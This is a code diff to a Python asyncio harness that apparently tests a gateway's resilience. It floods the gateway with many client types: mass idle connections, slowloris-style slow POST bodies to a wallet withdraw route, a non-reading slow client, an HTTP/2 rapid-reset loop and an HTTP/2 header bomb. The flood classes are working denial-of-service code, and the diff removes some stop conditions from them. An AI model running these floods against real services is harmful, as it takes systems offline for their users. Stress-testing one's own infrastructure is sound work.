@@ -63,7 +63,7 @@ async def gather(count, one, *, width=200):
         try:
             async with gateway:
                 streams = await asyncio.wait_for(one.start(number), 30)
-            seen[await one.go(number, *streams)] += 1
+            seen[await until_it_ends(one, number, *streams)] += 1
             streams[1].close()
         except (OSError, ssl.SSLError, asyncio.IncompleteReadError, asyncio.TimeoutError, EOFError) as error:
             seen[type(error).__name__] += 1
@@ -72,10 +72,32 @@ async def gather(count, one, *, width=200):
     return ", ".join(f"{count} {what}" for what, count in seen.most_common(4))
 
 
+async def until_it_ends(flood, number, reader, writer):
+    """What an attack saw, or when the gateway ended its connection."""
+    began, attack = time.monotonic(), asyncio.ensure_future(flood.go(number, reader, writer))
+    if not flood.reads:
+        return await attack
+
+    async def heard():
+        try:
+            while await reader.read(1 << 16):
+                pass
+        except (OSError, ssl.SSLError):
+            pass
+
+    ear = asyncio.ensure_future(heard())
+    await asyncio.wait([attack, ear], return_when=asyncio.FIRST_COMPLETED)
+    if attack.done():
+        ear.cancel()
+        return attack.result()
+    attack.cancel()
+    return f"ended within {int(time.monotonic() - began) + 1} s"
+
+
 class Flood:
     """One kind of client. `start` opens its connection, `go` attacks."""
 
-    count, http2 = 100, False
+    count, http2, reads = 100, False, True
 
     def __init__(self, gate):
         self.gate = gate
@@ -87,18 +109,11 @@ class Flood:
         return await gather(self.count, self)
 
     async def until_the_end(self, writer, piece, pause):
-        """Writes a piece over and over, until the flood or the connection ends; says which."""
-        began = time.monotonic()
+        """Writes a piece over and over, until the flood ends."""
         while self.gate.lasts():
-            if writer.is_closing():
-                return "ended by the gateway"
             writer.write(piece)
-            try:
-                await writer.drain()
-            except (ConnectionError, ssl.SSLError):
-                return f"ended by the gateway after {round(time.monotonic() - began)} s" if pause else "ended by the gateway"
-            if pause:
-                await asyncio.sleep(pause)
+            await writer.drain()
+            await asyncio.sleep(pause)
         return "lasted"
 
 
@@ -108,11 +123,8 @@ class Idle(Flood):
     count = 10_000
 
     async def go(self, number, reader, writer):
-        left = max(self.gate.end - time.monotonic(), 0.1)
-        try:
-            return "ended by the gateway" if await asyncio.wait_for(reader.read(1), left) == b"" else "answered"
-        except asyncio.TimeoutError:
-            return "stayed open"
+        await asyncio.sleep(max(self.gate.end - time.monotonic(), 0))
+        return "stayed open"
 
 
 class Held(Flood):
@@ -127,7 +139,7 @@ class Held(Flood):
         streams = await self.gate.open()
         body = b"amount=1&destination=2&note=" + b"n" * 61_000
         head = (
-            b"POST /wallet/withdraw HTTP/1.1\r\nHost: %s\r\nOrigin: https://%s\r\nCookie: demo_session=p%d\r\n"
+            b"POST /wallet/withdraw HTTP/1.1\r\nHost: %s\r\nOrigin: http://%s\r\nCookie: demo_session=p%d\r\n"
             b"Accept: text/html\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n"
         )
         streams[1].write(head % (self.gate.host, self.gate.host, number, len(body)) + body)
@@ -153,7 +165,7 @@ class SlowBody(Flood):
     """A body of a guarded route of which a byte comes each second."""
 
     count = 500
-    start_line = b"POST /wallet/withdraw HTTP/1.1\r\nHost: %s\r\nOrigin: https://%s\r\nCookie: demo_session=p%d\r\n"
+    start_line = b"POST /wallet/withdraw HTTP/1.1\r\nHost: %s\r\nOrigin: http://%s\r\nCookie: demo_session=p%d\r\n"
 
     async def go(self, number, reader, writer):
         writer.write(self.start_line % (self.gate.host, self.gate.host, number))
@@ -185,10 +197,10 @@ class EndlessOpen(Flood):
 class SlowReader(Flood):
     """Who asks for 64 MiB and reads nothing."""
 
-    count = 200
+    count, reads = 200, False
 
     async def start(self, number):
-        return await self.gate.open(limit=1)
+        return await self.gate.open(limit=1)  # A small buffer of our own.
 
     async def go(self, number, reader, writer):
         writer.write(b"GET /large HTTP/1.1\r\nHost: %s\r\n\r\n" % self.gate.host)
@@ -214,18 +226,14 @@ class RapidReset(Flood):
     count, http2 = 20, True
 
     async def go(self, number, reader, writer):
-        block, stream, began = request(self.gate), 1, time.monotonic()
-        while self.gate.lasts() and stream < 1 << 30:
+        block, stream = request(self.gate), 1
+        while self.gate.lasts():
             many = range(stream, stream + 200, 2)
             stream += 200
             pair = (frame(HEADERS, 5, each, block) + frame(RESET, 0, each, (8).to_bytes(4, "big")) for each in many)
             writer.write(b"".join(pair))
-            try:
-                await writer.drain()
-            except (ConnectionError, ssl.SSLError):
-                return "ended by the gateway"
-            if writer.is_closing():
-                return "ended by the gateway"
+            await writer.drain()
+            await asyncio.sleep(0)
         return "lasted"
 
 
@@ -290,12 +298,7 @@ class HeaderBomb(Flood):
         while self.gate.lasts():
             writer.write(frame(HEADERS, 5, stream, request(self.gate) + b"\xbe" * 15_000))
             stream += 2
-            try:
-                await writer.drain()
-            except (ConnectionError, ssl.SSLError):
-                return "ended by the gateway"
-            if writer.is_closing():
-                return "ended by the gateway"
+            await writer.drain()
             await asyncio.sleep(0.01)
         return "lasted"
 
